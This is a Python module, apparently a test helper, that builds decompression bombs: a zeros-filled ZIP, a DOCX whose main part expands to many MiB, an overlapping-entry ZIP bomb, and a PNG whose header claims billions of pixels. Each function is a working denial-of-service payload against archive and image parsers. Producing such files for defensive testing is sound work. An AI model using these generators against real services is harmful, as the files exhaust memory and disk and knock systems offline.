"""Decompression bombs, built in a few MiB without compressing a GiB: raw deflate of zeros in
identical flushed blocks, members that share one stream (overlapping entries), an image
header announcing billions of pixels."""

from __future__ import annotations

import struct
import zlib

MIB = 1024 * 1024


def zeros_deflate(size_mib: int) -> tuple[bytes, int]:
    """Raw deflate of ``size_mib`` MiB of zeros, and its CRC-32."""
    zeros = bytes(MIB)
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = comp.compress(zeros) + comp.flush(zlib.Z_FULL_FLUSH)
    block = comp.compress(zeros) + comp.flush(zlib.Z_FULL_FLUSH)
    again = comp.compress(zeros) + comp.flush(zlib.Z_FULL_FLUSH)
    assert block == again, "a full flush must make blocks of equal input identical"
    crc = 0
    for _ in range(size_mib):
        crc = zlib.crc32(zeros, crc)
    return first + block * (size_mib - 1) + comp.flush(zlib.Z_FINISH), crc


def _local(name: bytes, data: bytes, crc: int, size: int) -> bytes:
    return (
        struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(data), size, len(name), 0)
        + name
        + data
    )


def _central(name: bytes, compressed: int, crc: int, size: int, offset: int) -> bytes:
    return (
        struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            20,
            20,
            0,
            8,
            0,
            0,
            crc,
            compressed,
            size,
            len(name),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        + name
    )


def _end(count: int, directory: bytes, offset: int) -> bytes:
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(directory), offset, 0)


def zip_of(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """A ZIP of already-deflated members: (name, deflated data, crc, uncompressed size)."""
    body = b""
    directory = b""
    for name, data, crc, size in members:
        directory += _central(name.encode(), len(data), crc, size, len(body))
        body += _local(name.encode(), data, crc, size)
    return body + directory + _end(len(members), directory, len(body))


def deflated(text: bytes) -> tuple[bytes, int, int]:
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    return comp.compress(text) + comp.flush(), zlib.crc32(text), len(text)


def zip_bomb(size_mib: int) -> bytes:
    """One member of ``size_mib`` MiB of zeros (about 1000:1)."""
    data, crc = zeros_deflate(size_mib)
    return zip_of([("zeros.txt", data, crc, size_mib * MIB)])


def docx_bomb(size_mib: int) -> bytes:
    """An OOXML package whose document.xml is ``size_mib`` MiB of zeros."""
    types = deflated(
        b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'content-types"><Override PartName="/word/document.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
    )
    rels = deflated(
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
        b'package/2006/relationships"><Relationship Id="r1" Type="http://schemas.'
        b'openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        b'Target="word/document.xml"/></Relationships>'
    )
    data, crc = zeros_deflate(size_mib)
    return zip_of(
        [
            ("[Content_Types].xml", *types),
            ("_rels/.rels", *rels),
            ("word/document.xml", data, crc, size_mib * MIB),
        ]
    )


def overlapping_zip_bomb(members: int, size_mib: int, *, same: bool = False) -> bytes:
    """``members`` central-directory entries all pointing at one local entry of ``size_mib``
    MiB (the shape of D. Fifield's non-recursive bombs): members x size_mib when extracted.
    ``same``: every entry has the local entry's name (no name mismatch to catch it)."""
    data, crc = zeros_deflate(size_mib)
    local = _local(b"m0000", data, crc, size_mib * MIB)
    directory = b"".join(
        _central(b"m0000" if same else f"m{i:04d}".encode(), len(data), crc, size_mib * MIB, 0)
        for i in range(members)
    )
    return local + directory + _end(members, directory, len(local))


def png_pixel_bomb(width: int = 200_000, height: int = 200_000) -> bytes:
    """A valid PNG chunk sequence whose header claims ``width`` x ``height`` pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(bytes(64 * 1024), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")
